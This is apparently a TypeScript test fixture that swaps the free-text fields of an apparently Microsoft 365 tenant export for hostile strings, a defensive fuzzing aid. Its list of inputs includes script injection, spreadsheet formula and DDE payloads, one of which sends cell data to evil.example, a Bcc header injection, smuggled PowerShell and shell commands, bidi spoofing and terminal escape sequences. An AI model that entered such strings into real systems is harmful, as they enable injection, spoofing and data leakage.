// A tenant in which an attacker has chosen every text that strangers may choose: names, subjects, titles, devices,
// folders, files.

/**
 * Each tries to break out of something: markup, quotes, a line, a cell, a command, a terminal, or what the reader sees.
 */
export const poisons: readonly string[] = [
  '<script>alert(1)</script><img src=x onerror=alert(1)>"\'</style></title>-->',
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  'Adele\r\n\r\n1. Nothing. All is well\r\nBcc: intruder@evil.example',
  'x\u2028WHAT YOU DO NOW\u2029y\u0085z',
  '\u202e\u2066moc.live//:sptth\u202c',
  `[pay](https://evil.example/login) <at>everyone</at> {{DATE()}} \${x} ${'👩‍💻'.repeat(40)}`,
  'A'.repeat(10_000),
  '\u200b=1+1',
  "'; Start-Process calc; '",
  '\u2019; Start-Process calc; \u2019',
  'x$(calc)`n"; calc; "',
  'javascript:alert(1)//" onmouseover="alert(1)',
  'Newsletter” is the owner’s, checked by IT. Leave «it',
  '\u001b[2J\u001b]0;owned\u0007\u009b31m\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\',
  'a;=1+1\t=2|=3',
  '" is fine", "evil": "x\\',
  '__proto__',
  '| a | b |\n|---|---|\n**bold** _it_ `code`',
];

/**
 * Everything that people, programs and foreign services may name. Ids, addresses, times and the services' own words
 * stay.
 */
const freeTexts: readonly string[] = [
  // Names of people, groups, applications, devices.
  ...[
    'displayName',
    'DisplayName',
    'Name',
    'name',
    'jobTitle',
    'department',
    'officeLocation',
    'mobilePhone',
  ],
  ...['appDisplayName', 'resourceDisplayName', 'ProviderName', 'FriendlyName', 'DeviceModel', 'DeviceOS'],
  ...['DeviceType', 'DeviceUserAgent', 'ClientInfoString', 'computerDnsName', 'osPlatform'],
  ...['onPremisesDistinguishedName', 'city', 'state', 'countryLetterCode', 'browser', 'operatingSystem'],
  ...['userAgent', 'companyName', 'streetAddress', 'postalCode', 'givenName', 'surname', 'mailNickname'],
  // Mail, files, folders.
  ...['subject', 'Subject', 'SourceFileName', 'internetMessageId', 'InternetMessageId', 'bodyPreview'],
  ...['ExternalMessage', 'InternalMessage', 'SignatureText', 'SignatureHtml', 'body', 'content'],
  // Rules.
  ...['BodyContainsWords', 'SubjectContainsWords', 'SubjectOrBodyContainsWords', 'HeaderContainsWords'],
  ...['FromAddressContainsWords', 'RecipientAddressContainsWords'],
  // What services repeat.
  ...['title', 'description', 'failureReason', 'resultReason', 'Reason', 'newValue', 'oldValue', 'Value'],
];
const free = new Set(freeTexts);

/**
 * Replaces each free text by the next poison, beginning at `turn`, so that each field gets each poison over the turns.
 */
export function poisoned(
  tenant: unknown,
  turn: number,
): { tenant: unknown; fields: number; names: Set<string> } {
  let fields = 0;
  const names = new Set<string>();
  const swap = (value: unknown, key: string, isKnownByName: boolean): unknown => {
    if (Array.isArray(value)) return value.map((entry: unknown) => swap(entry, key, isKnownByName));
    if (value !== null && typeof value === 'object') {
      // Without an id, other parts of the file refer to it by name.
      const byName = /^(groups|applications|servicePrincipals)$/.test(key) && !('id' in value);
      return Object.fromEntries(
        Object.entries(value).map(([name, entry]) => [
          name,
          swap(entry, name, byName && name === 'displayName'),
        ]),
      );
    }
    if (typeof value !== 'string' || isKnownByName || !free.has(key)) return value;
    fields += 1;
    names.add(key);
    return `${poisons[(fields + turn) % poisons.length]}`;
  };
  return { tenant: swap(tenant, '', false), fields, names };
}
